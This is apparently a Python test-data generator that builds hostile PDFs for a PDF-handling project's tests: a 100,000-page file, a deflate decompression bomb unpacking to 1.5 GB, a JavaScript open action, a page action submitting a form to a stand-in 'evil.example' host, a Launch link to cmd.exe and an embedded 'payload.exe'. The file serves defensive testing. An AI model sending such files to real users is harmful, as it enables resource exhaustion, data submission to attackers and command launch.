"""Generate the hostile PDFs of issue 13 into a folder, at test time (none are checked in).

    python -m tests.data.make_hostile_pdfs /tmp/hostile

Each is small: 100,000 pages in well under a megabyte, a 1.5 MB stream unpacking to 1.5 GB,
and four files with active content (a JavaScript OpenAction, page /AA, a Launch link, an
embedded file) around one ordinary page of text.
"""

from __future__ import annotations

import sys
import zlib
from io import BytesIO
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String

MANY_PAGES = 100_000
BOMB_UNPACKED = 1536 * 1024 * 1024  # 1.5 GB of zeros
_ZEROS = bytes(16 * 1024 * 1024)


def _save(pdf: Pdf, **options) -> bytes:
    out = BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def _text_page(pdf: Pdf, text: str) -> pikepdf.Page:
    page = pdf.add_blank_page(page_size=(612, 792))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
    page.contents_add(pdf.make_stream(f"BT /F1 18 Tf 72 700 Td ({text}) Tj ET".encode()))
    return page


def many_pages(count: int = MANY_PAGES) -> bytes:
    """A valid PDF of `count` empty pages, packed into object streams."""
    head = b"%PDF-1.7\n"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count %d /Kids [%s] >>"
        % (count, b" ".join(b"%d 0 R" % (3 + n) for n in range(count))),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"] * count
    body, offsets = bytearray(head), []
    for number, obj in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, obj)
    xref = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    body += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    body += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    with pikepdf.open(BytesIO(bytes(body))) as pdf:
        return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def decompression_bomb(unpacked: int = BOMB_UNPACKED) -> bytes:
    """One page whose content stream is `unpacked` zero bytes, deflated to about 1.5 MB."""
    # Deflating 1.5 GB takes seconds; after a full flush every chunk of zeros deflates to the
    # same bytes, so one block is repeated and the stream closed by hand (an empty final
    # block, then the Adler-32 of all the zeros).
    chunks = unpacked // len(_ZEROS)
    deflater = zlib.compressobj(9)
    first = deflater.compress(_ZEROS) + deflater.flush(zlib.Z_FULL_FLUSH)
    block = deflater.compress(_ZEROS) + deflater.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(chunks):
        checksum = zlib.adler32(_ZEROS, checksum)
    packed = first + block * (chunks - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")
    pdf = Pdf.new()
    page = _text_page(pdf, "Budget workshop")
    bomb = pikepdf.Stream(pdf, bytes(packed))
    bomb.Filter = Name.FlateDecode
    page.obj.Resources.XObject = Dictionary(
        Im0=pdf.make_indirect(bomb)  # an unused form: only the unpacked size matters
    )
    bomb.Type, bomb.Subtype, bomb.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    return _save(pdf, compress_streams=False)


def _js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def javascript_open_action() -> bytes:
    pdf = Pdf.new()
    _text_page(pdf, "Staff report")
    pdf.Root.OpenAction = pdf.make_indirect(_js("app.alert('opened');"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js("1;"))]))
    )
    return _save(pdf)


def page_additional_actions() -> bytes:
    pdf = Pdf.new()
    page = _text_page(pdf, "Staff report")
    page.obj.AA = Dictionary(O=_js("this.submitForm('https://evil.example/');"))
    pdf.Root.AA = Dictionary(WC=_js("app.alert('closing');"))
    return _save(pdf)


def launch_link() -> bytes:
    pdf = Pdf.new()
    page = _text_page(pdf, "Staff report")
    launch = Dictionary(Type=Name.Action, S=Name.Launch, F=String("cmd.exe"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 690, 300, 720]), A=launch)
    page.obj.Annots = Array([pdf.make_indirect(link)])
    return _save(pdf)


def embedded_file() -> bytes:
    pdf = Pdf.new()
    _text_page(pdf, "Staff report")
    attached = pikepdf.AttachedFileSpec(pdf, b"MZ not really a program", mime_type="text/plain")
    pdf.attachments["payload.exe"] = attached
    return _save(pdf)


HOSTILE = {
    "many_pages.pdf": many_pages,
    "bomb.pdf": decompression_bomb,
    "javascript_open_action.pdf": javascript_open_action,
    "page_actions.pdf": page_additional_actions,
    "launch_link.pdf": launch_link,
    "embedded_file.pdf": embedded_file,
}


def write_all(folder: Path) -> dict[str, Path]:
    """Write every hostile PDF into `folder`; return their paths by name."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in HOSTILE.items():
        paths[name] = folder / name
        paths[name].write_bytes(make())
    return paths


if __name__ == "__main__":
    for name, path in write_all(Path(sys.argv[1])).items():
        print(f"{name}: {path.stat().st_size:,} bytes")
